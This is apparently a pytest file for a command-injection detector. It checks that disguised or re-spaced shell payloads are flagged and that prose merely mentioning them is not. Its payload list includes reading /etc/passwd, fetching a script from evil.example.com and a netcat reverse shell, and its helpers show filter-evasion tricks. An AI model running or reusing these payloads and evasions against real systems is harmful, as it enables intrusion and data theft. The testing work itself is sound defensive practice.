"""Disguises of commands, and the texts that only speak of them."""

import random
from collections.abc import Callable

import pytest

from nightlatch.checks.attacks.command_injection import recognise
from nightlatch.checks.attacks.value import Place, Value

PAYLOADS = (
    ";cat /etc/passwd",
    "|wget http://evil.example.com/x.sh",
    "&& curl http://evil.example.com/x",
    "`sleep 10`",
    "$(nslookup x.evil.example.com)",
    ";nc -e /bin/sh 10.0.0.1 4444",
)


def _quoted(name: str, chance: random.Random) -> str:
    at = chance.randrange(len(name))
    return f"{name[:at]}'{name[at]}'{name[at + 1 :]}"


def _escaped(name: str, chance: random.Random) -> str:
    at = chance.randrange(len(name))
    return f"{name[:at]}\\{name[at:]}"


def _emptied(name: str, chance: random.Random) -> str:
    at = chance.randrange(1, len(name))
    return f"{name[:at]}{chance.choice(['$@', '$*', '${x}', '$1', '``'])}{name[at:]}"


def _assembled(name: str, chance: random.Random) -> str:
    at = chance.randrange(1, len(name))
    return f"a={name[:at]};b={name[at:]};$a$b"


DISGUISES: tuple[Callable[[str, random.Random], str], ...] = (
    _quoted,
    _escaped,
    _emptied,
    _assembled,
)


def certainty(text: str, place: Place = Place.QUERY, name: str = "q") -> int:
    clue = recognise(text, Value(place, name, text))
    return clue.certainty if clue else 0


@pytest.mark.parametrize("disguise", DISGUISES)
@pytest.mark.parametrize("name", ["cat", "wget", "curl", "sleep", "nslookup"])
def test_a_disguised_name_is_found(
    disguise: Callable[[str, random.Random], str], name: str
) -> None:
    chance = random.Random(name)
    payload = next(payload for payload in PAYLOADS if name in payload)
    for _ in range(20):
        text = payload.replace(name, disguise(name, chance), 1)
        if disguise is not _assembled or "`" not in text:
            assert certainty(text) >= 60, text


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("space", ["\t", "${IFS}", "$IFS$9", "  "])
def test_other_spaces_are_spaces(payload: str, space: str) -> None:
    assert certainty(payload.replace(" ", space)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("before", ["", "127.0.0.1", "x", "'", '"', "a)", "John Smith", "1 "])
@pytest.mark.parametrize("after", ["", "#", ";", "'", " &", '"'])
def test_what_stands_around_does_not_matter(payload: str, before: str, after: str) -> None:
    if not (payload.startswith("`") and before == "John Smith"):
        assert certainty(before + payload + after) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_about_it_passes(payload: str) -> None:
    text = (
        "While testing the new tool page we saw that the host parameter was sent to a shell, so "
        f"that {payload} would have been run by it; the fix hands the arguments over as a list."
    )
    assert certainty(text) < 60
    assert certainty(f"Run this:\n\n```sh\n{payload}\n```\n") < 60


def test_a_script_that_somebody_keeps_passes() -> None:
    script = "npm ci && node build.js"
    assert certainty(script, Place.JSON, "$.scripts.build") < 60


@pytest.mark.parametrize("fragment", [";id ", "`", "$(", "()", "--a=", "'a'b ", "\n", "{a,", "|"])
def test_hostile_texts_end(fragment: str) -> None:
    assert certainty(fragment * (8192 // len(fragment))) <= 100
